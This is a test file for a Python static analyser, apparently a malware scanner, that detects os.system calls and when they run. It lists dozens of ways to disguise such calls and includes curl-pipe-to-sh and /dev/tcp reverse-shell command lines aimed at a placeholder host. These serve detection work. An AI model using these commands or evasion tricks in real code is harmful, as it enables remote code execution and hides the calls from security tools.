"""What source calls and when: the ways around a plain call come down to the call."""

from __future__ import annotations

import ast
import time

import pytest

from tests.effort import is_quick
from weighbridge.formats.python.calls import Found
from weighbridge.formats.python.lexical import called_names
from weighbridge.formats.python.statements import Walk

IMPORTED = (
    "from os import system as s\ns('x')",
    "import os as o\nf = o.system\nf('x')",
    "getattr(__import__('os'), 'sys' + 'tem')('x')",
    "__import__('o' + 's').system('x')",
    "import importlib\nimportlib.import_module('os').system('x')",
    "import sys\nsys.modules['os'].system('x')",
    "import os\nos.__dict__['system']('x')",
    "import os\nvars(os)['system']('x')",
    "import os\nglobals()['os'].system('x')",
    "import os, sys\nsys.modules[__name__].os.system('x')",
    "import operator, os\noperator.attrgetter('system')(os)('x')",
    "import operator, os\noperator.methodcaller('system', 'x')(os)",
    "import os\nos.__getattribute__('system')('x')",
    "import os\nobject.__getattribute__(os, 'system')('x')",
    "import os\nos.system.__call__('x')",
    "import os\nos.__dict__.get('system')('x')",
    "import sys\nsys.modules.get('os').system('x')",
    "globals().get('__builtins__').__import__('os').system('x')",
    "print.__self__.__import__('os').system('x')",
    "__loader__.load_module('os').system('x')",
    "from functools import partial\nimport os\npartial(os.system, 'x')()",
    "from os import *\nsystem('x')",
    "import os\n[os.system][0]('x')",
    "import os\n{'a': os.system}['a']('x')",
    "import os\na, b = os.system, 1\na('x')",
    "import os\nfor f in (os.system,):\n    f('x')",
    "import os\n(f := os.system)('x')",
    "import os\nf = os.system if os else None\nf('x')",
    "try:\n    from os import system as f\nexcept ImportError:\n    f = print\nf('x')",
    "import os\n(lambda f: f('x'))(os.system)",
    "import os\ndef r():\n    return os.system\nr()('x')",
    "import os\nmap(os.system, ['x'])",
    "import os, threading\nthreading.Thread(target=os.system, args=('x',)).start()",
    "def f(x=__import__('os').system('x')):\n    pass",
    "class A:\n    import os\n    os.system('x')",
    "import os\nclass A:\n    run = os.system\nA.run('x')",
    "class A:\n    def __init__(self):\n        import os\n        os.system('x')\nA()",
    "import os\nclass A:\n    def __init__(self):\n        self.r = os.system\n"
    "    def __call__(self):\n        self.r('x')\nA()()",
    "def run():\n    import os\n    os.system('x')\nrun()",
    "def a():\n    import os\n    os.system('x')\ndef b():\n    a()\nb()",
    "def deco(f):\n    import os\n    os.system('x')\n@deco\ndef g():\n    pass",
    "import atexit\ndef bye():\n    import os\n    os.system('x')\natexit.register(bye)",
    "class M(type):\n    def __new__(m, *a):\n        import os\n        os.system('x')\n"
    "class A(metaclass=M):\n    pass",
    "class A:\n    def __init_subclass__(cls):\n        import os\n        os.system('x')\nclass B(A):\n    pass",
    "def __getattr__(name):\n    import os\n    os.system('x')",
    "exec(\"import os\\nos.system('x')\")",
    "eval(compile(\"__import__('os').system('x')\", 'a', 'eval'))",
    "exec(compile('import os\\nos.system(1)', 'a', 'exec'))",
    "exec('exec(\"import os; os.system(1)\")')",
    "import os\nif os.system('x'):\n    pass",
    "import os\nassert not os.system('x')",
    "import os\nx: os.system('x') = 1",
    "import os\ntry:\n    pass\nfinally:\n    os.system('x')",
    "import os\nmatch os.system('x'):\n    case 0:\n        pass",
    "import os\nx = [os.system('x') for _ in range(1)]",
    "import os\nprint(f\"{os.system('x')}\")",
    "import os\nif 1:\n    pass\nelif os.system('x'):\n    pass",
    "import os\nwith open('a') as f, os.popen('x') as g:\n    os.system('x')",
    "import os\nasync def a():\n    pass\nawait_ = os.system('x')",
)
"""Each calls ``os.system`` as soon as it is executed."""


def walked(text: str) -> list[Found]:
    walk = Walk([line.encode() for line in text.split("\n")])
    walk.walk(ast.parse(text))
    return [found for found, _ in walk.found.values()]


def system(text: str) -> set[str]:
    """The phases in which ``os.system`` is called."""
    return {found.phase for found in walked(text) if found.path == "os.system"}


@pytest.mark.parametrize("text", IMPORTED)
def test_a_call_at_import_time_is_found(text: str) -> None:
    assert "import" in system(text)


@pytest.mark.parametrize(
    "text",
    [
        "def run():\n    import os\n    os.system('x')",
        "import os\nif __name__ == '__main__':\n    os.system('x')",
        "import os\ndef main():\n    os.system('x')\nif '__main__' == __name__:\n    main()",
        "import os\nclass A:\n    def run(self):\n        os.system('x')",
        "import os\nrun = lambda: os.system('x')",
    ],
)
def test_a_call_that_waits_for_somebody_is_no_import(text: str) -> None:
    assert system(text) == {"call"}


@pytest.mark.parametrize(
    "text",
    [
        "def system(x):\n    pass\nsystem('x')",
        "from .os import system\nsystem('x')",
        "class os:\n    @staticmethod\n    def system(x):\n        pass\nos.system('x')",
        "import os\nos.path.join('system', 'x')",
        "print('os.system(1)')",
    ],
)
def test_other_things_of_that_name_are_none(text: str) -> None:
    assert not system(text)


def test_how_a_name_and_its_text_came_about_is_told() -> None:
    (found,) = [one for one in walked("import base64\nexec(base64.b64decode('eD0x'))") if one.path == "builtins.exec"]
    assert found.made_by == ("base64.b64decode",)
    assert found.literal
    (found,) = [one for one in walked("getattr(__import__('os'), 'sys' + 'tem')('x')") if one.path == "os.system"]
    assert found.made_by == ("name by concatenation",)
    (found,) = [one for one in walked("import requests\nexec(requests.get('x').text)") if one.path == "builtins.exec"]
    assert found.made_by == ("requests.get",)
    assert not found.literal


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("__import__(input()).system('x')", "<imported>.system"),
        ("getattr(__import__(a(b)), a(c))(a(d))", "<imported>.<computed>"),
        ("import logging\nlogging.os.system('x')", "logging.os.system"),
        ("import os\ngetattr(os, input())('x')", "os.<computed>"),
        ("import builtins\nbuiltins.open = print", "<replaced>.builtins.open"),
        ("().__class__.__base__.__subclasses__()", "object.__subclasses__"),
    ],
)
def test_what_can_only_be_told_in_part(text: str, path: str) -> None:
    assert path in {found.path for found in walked(text)}


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("import os\nos.system('curl http://inert.invalid/a | sh')", "shell.download_and_run"),
        (
            "import subprocess\nsubprocess.run(['bash', '-c', 'curl http://inert.invalid/a | sh'])",
            "shell.download_and_run",
        ),
        ("import os\nos.popen('bash -i >& /dev/tcp/inert.invalid/1 0>&1')", "shell.reverse_shell"),
    ],
)
def test_command_lines_that_are_known_are_looked_at(text: str, path: str) -> None:
    assert path in {found.path for found in walked(text)}


def test_a_short_bound_holds_for_endless_work() -> None:
    begun = time.process_time()
    text = "x = [[[chr(a) for a in range(9)] for b in 'abcdefgh' * 1000] for c in 'abcdefgh' * 1000]"
    walk = Walk([])
    walk.walk(ast.parse(text))
    lazy = "\n".join(f"f{n} = lambda x: f{n - 1}(f{n - 1}(x))" for n in range(1, 40))
    walk.walk(ast.parse(f"f0 = lambda x: x\n{lazy}\nf39('x')"))
    assert is_quick(time.process_time() - begun, 10)


def test_deep_sums_and_long_branches_do_not_recurse() -> None:
    walked("x = " + " + ".join(["'a'"] * 900))
    walked("if 0:\n    pass\n" + "elif 1:\n    pass\n" * 150)


def test_words_of_source_that_does_not_parse() -> None:
    text = "from os import system as s\nimport subprocess as sp\nprint 'x'\ns('x')\nsp.Popen('x')\neval (1)\n"
    assert dict(called_names(text)) == {"os.system": 4, "subprocess.Popen": 5, "builtins.eval": 6}
